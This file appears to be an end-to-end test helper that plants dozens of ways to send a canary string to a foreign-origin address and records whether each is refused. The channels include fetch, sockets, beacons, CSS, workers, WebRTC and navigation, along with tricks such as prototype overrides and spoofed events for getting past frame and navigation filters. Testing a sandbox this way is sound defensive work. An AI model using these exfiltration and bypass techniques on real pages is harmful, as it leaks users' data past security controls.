// Every way out that a script could try, each with what became of it. Planted into a test build of the page, and into the
// engine's worker there: `tests/e2e/lib/planted.mjs`. `target` is an address of another origin that must hear nothing.
globalThis.plantedAttempts = async (target) => {
  const outcomes = [];
  globalThis.plantedOutcomes = outcomes;
  const secret = 'canary-of-the-log';
  const soon = (promise) => Promise.race([promise, new Promise((done) => { setTimeout(done, 1500, 'refused'); })]);
  const attempt = async (name, work) => {
    let outcome;
    try { outcome = await soon(work()); } catch { outcome = 'refused'; }
    outcomes.push([name, outcome ?? 'went out']);
  };
  const address = (name) => `${target}${name}?${secret}`;
  const heard = (object, works, fails) => new Promise((done) => {
    object.addEventListener(works, () => done('went out'));
    object.addEventListener(fails, () => done('refused'));
  });

  // Of another origin none may be loaded anyway: its text is made here, and asks.
  const worker = (kind) => {
    const text = `const say = (what) => globalThis.postMessage?.(what);
      fetch('${address('worker')}', { mode: 'no-cors' }).then(() => say('went out'), () => say('refused'));`;
    const made = new kind(URL.createObjectURL(new Blob([text], { type: 'text/javascript' })));
    return new Promise((done, fail) => {
      made.addEventListener('message', ({ data }) => done(data));
      made.addEventListener('error', fail);
    });
  };

  await attempt('fetch', async () => { await fetch(address('fetch'), { mode: 'no-cors', method: 'POST', body: secret }); });
  await attempt('fetch that outlives the page', async () => { await fetch(address('keepalive'), { mode: 'no-cors', keepalive: true }); });
  await attempt('XMLHttpRequest', () => {
    const request = new XMLHttpRequest();
    request.open('POST', address('xhr'));
    const result = heard(request, 'load', 'error');
    request.send(secret);
    return result;
  });
  await attempt('WebSocket', () => heard(new WebSocket(address('socket').replace('http', 'ws')), 'open', 'error'));
  await attempt('EventSource', () => heard(new EventSource(address('events')), 'open', 'error'));
  await attempt('WebTransport', async () => { await new WebTransport(address('transport').replace('http:', 'https:')).ready; });
  if (!globalThis.document) {
    await attempt('importScripts', async () => { importScripts(address('script')); });
    await attempt('a worker in a worker', () => worker(Worker));
    return outcomes;
  }

  const element = (name, given, rest = {}) => {
    const made = Object.assign(document.createElement(name), given);
    for (const [attribute, value] of Object.entries(rest)) made.setAttribute(attribute, value);
    document.body.append(made);
    return made;
  };
  // What the host of the attempt hears decides on these; they tell nothing themselves.
  const silent = async () => { await new Promise((done) => { setTimeout(done, 300); }); return 'silent'; };
  await attempt('beacon', () => { navigator.sendBeacon(address('beacon'), secret); return silent(); });
  await attempt('image', () => heard(element('img', { src: address('image') }), 'load', 'error'));
  await attempt('style sheet', () => heard(element('link', { rel: 'stylesheet', href: address('style') }), 'load', 'error'));
  await attempt('picture of a style', () => { element('p', {}).style.backgroundImage = `url(${address('background')})`; return silent(); });
  await attempt('font of a style', async () => { await new FontFace('planted', `url(${address('font')})`).load(); });
  await attempt('import of a style', () => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`@font-face { font-family: p; src: url(${address('sheet-font')}) } p { background: url(${address('sheet')}); font-family: p }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    element('p', { textContent: 'planted' });
    return silent();
  });
  await attempt('script', () => heard(element('script', { src: address('script') }), 'load', 'error'));
  await attempt('module', async () => { await import(address('module')); });
  await attempt('sound', () => heard(element('audio', { src: address('sound'), preload: 'auto' }), 'canplay', 'error'));
  await attempt('frame', () => { element('iframe', { src: address('frame') }); return silent(); });
  await attempt('object', () => { element('object', { data: address('object') }); return silent(); });
  await attempt('embed', () => { element('embed', { src: address('embed') }); return silent(); });
  await attempt('form', () => {
    const form = element('form', { action: address('form'), method: 'post', target: '_blank' });
    form.append(Object.assign(document.createElement('input'), { name: 'log', value: secret }));
    form.submit();
    return silent();
  });
  await attempt('prefetch', () => { element('link', { rel: 'prefetch', href: address('prefetch') }); return silent(); });
  await attempt('preload', () => { element('link', { rel: 'preload', as: 'fetch', href: address('preload') }); return silent(); });
  await attempt('rules of speculation', () => {
    const rules = { prefetch: [{ source: 'list', urls: [address('speculation')] }] };
    element('script', { type: 'speculationrules', text: JSON.stringify(rules) });
    return silent();
  });
  await attempt('manifest', () => { element('link', { rel: 'manifest', href: address('manifest') }); return silent(); });
  await attempt('worker', () => worker(Worker));
  await attempt('shared worker', () => worker(SharedWorker));
  await attempt('service worker', async () => { await navigator.serviceWorker.register(address('service')); });
  await attempt('ping of a link', () => {
    element('a', { href: '#/v1', ping: address('ping') }).click();
    return silent();
  });
  await attempt('window', async () => { if (!globalThis.open(address('window'))) throw new Error('no window'); });
  await attempt('WebRTC', async () => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(target).host}` }] });
    connection.createDataChannel('planted');
    await connection.setLocalDescription();
  });
  await attempt('WebRTC of an empty frame', async () => {
    const frame = element('iframe', {});
    const connection = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(target).host}` }] });
    connection.createDataChannel('planted');
    await connection.setLocalDescription();
  });
  // Ways round whoever refuses to make a frame.
  const ofFrame = async (frame) => {
    document.body.append(frame);
    const connection = new frame.contentWindow.RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(target).host}` }] });
    connection.createDataChannel('planted');
    await connection.setLocalDescription();
  };
  await attempt('frame as a custom element', () => {
    const Planted = class extends HTMLIFrameElement {};
    customElements.define('planted-frame', Planted, { extends: 'iframe' });
    return ofFrame(new Planted());
  });
  await attempt('frame of a parsed text', () => {
    const text = '<x:iframe xmlns:x="http://www.w3.org/1999/xhtml"/>';
    return ofFrame(document.adoptNode(new DOMParser().parseFromString(text, 'application/xml').documentElement));
  });
  await attempt('frame in markup with a prefix', () => {
    const other = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'p');
    other.documentElement.innerHTML = '<x:iframe xmlns:x="http://www.w3.org/1999/xhtml"/>';
    return ofFrame(document.adoptNode(other.documentElement.firstChild));
  });
  await attempt('frame as the root of a document', () => {
    const other = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'iframe');
    return ofFrame(document.adoptNode(other.documentElement));
  });
  await attempt('frame by a name that changes', () => {
    let asked = 0;
    return ofFrame(document.createElement({ toString: () => (asked++ ? 'iframe' : 'p') }));
  });
  await attempt('frame by an expression that is turned', () => {
    const { exec } = RegExp.prototype;
    try {
      RegExp.prototype.exec = () => null;
      return ofFrame(document.createElement('iframe'));
    } finally {
      RegExp.prototype.exec = exec;
    }
  });
  await attempt('frame in markup by an expression that is turned', () => {
    const { exec } = RegExp.prototype;
    const holder = element('p', {});
    try {
      RegExp.prototype.exec = () => null;
      holder.innerHTML = '<iframe></iframe>';
      return ofFrame(holder.firstChild);
    } finally {
      RegExp.prototype.exec = exec;
    }
  });
  await attempt('window with a picture', async () => {
    await documentPictureInPicture.requestWindow();
  });
  await attempt('channel to other pages', async () => { new BroadcastChannel('other').postMessage(secret); });
  await attempt('fetch of an empty frame', async () => {
    await element('iframe', {}).contentWindow.fetch(address('of-a-frame'), { mode: 'no-cors' });
  });
  await attempt('frame in markup', () => {
    element('p', {}).innerHTML = `<iframe src="${address('markup')}"></iframe>`;
    return silent();
  });
  await attempt('cookie', async () => {
    document.cookie = `log=${secret}`;
    if (!document.cookie.includes(secret)) throw new Error('not kept');
  });
  await attempt('icon', () => { element('link', { rel: 'icon', href: address('icon') }); return silent(); });
  await attempt('preconnect', () => { element('link', { rel: 'preconnect', href: target }); return silent(); });
  await attempt('link in a new window', () => {
    Object.assign(document.createElement('a'), { href: address('blank'), target: '_blank' }).click();
    return silent();
  });
  await attempt('click that is made', () => {
    const link = element('a', { href: address('dispatched'), target: '_blank' });
    link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, ctrlKey: true }));
    return silent();
  });
  const blank = (name, given = {}) => element('a', { href: address(name), target: '_blank', ...given });
  await attempt('window by opening a document', async () => {
    if (!document.open(address('document-open'), '_blank', '')) throw new Error('no window');
  });
  await attempt('link that hides', () => { blank('hides', { closest: () => null }).click(); return silent(); });
  await attempt('link of a drawing', () => {
    const drawing = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const link = document.createElementNS('http://www.w3.org/2000/svg', 'a');
    link.setAttribute('href', address('drawing'));
    link.setAttribute('target', '_blank');
    drawing.append(link);
    document.body.append(drawing);
    link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    return silent();
  });
  await attempt('click that hides its kind', () => {
    const event = new MouseEvent('click', { bubbles: true, cancelable: true });
    Object.defineProperty(event, 'type', { value: 'other' });
    blank('other-kind').dispatchEvent(event);
    return silent();
  });
  await attempt('link in a shadow tree of markup', () => {
    const host = element('p', {});
    const tree = `<template shadowrootmode="open"><a href="${address('markup-shadow')}" target="_blank"><slot></slot></a></template>`;
    host.setHTMLUnsafe(`<div>${tree}<span>planted</span></div>`);
    host.querySelector('span').click();
    return silent();
  });
  await attempt('key of another site', async () => {
    await navigator.credentials.get({ publicKey: { challenge: new Uint8Array(8), rpId: new URL(target).hostname } });
  });
  await attempt('link in a shadow tree', () => {
    const host = element('div', {});
    const link = Object.assign(document.createElement('a'), { href: address('shadow'), target: '_blank' });
    link.append(document.createElement('slot'));
    host.attachShadow({ mode: 'closed' }).append(link);
    host.append(document.createElement('span'));
    host.firstChild.click();
    return silent();
  });
  await attempt('link to elsewhere', () => { element('a', { href: address('link') }).click(); return silent(); });
  await attempt('file saved from elsewhere', () => { element('a', { href: address('download'), download: 'x' }).click(); return silent(); });
  await attempt('refresh', () => { element('meta', { httpEquiv: 'refresh', content: `0;url=${address('refresh')}` }); return silent(); });
  await attempt('replaced address', () => { location.replace(address('replace')); return silent(); });
  await attempt('navigation by its interface', async () => { await navigation.navigate(address('navigate')).committed; });
  await attempt('address with a question', async () => {
    const own = `${location.href.split('#')[0]}?${secret}`;
    history.replaceState(null, '', own);
    if (!location.href.includes(secret)) throw new Error('not taken');
  });
  await attempt('navigation by lists that are turned', () => {
    const { [Symbol.iterator]: each } = Array.prototype;
    try {
      Array.prototype[Symbol.iterator] = function* turned() { yield { url: '' }; yield 'reload'; };
      location.href = address('turned');
    } finally {
      Array.prototype[Symbol.iterator] = each;
    }
    return silent();
  });
  await attempt('navigation that nobody else hears of', () => {
    globalThis.navigation?.addEventListener('navigate', (event) => event.stopImmediatePropagation(), true);
    location.href = address('unheard');
    return silent();
  });
  await attempt('navigation', () => { location.href = address('navigation'); return silent(); });
  return outcomes;
};
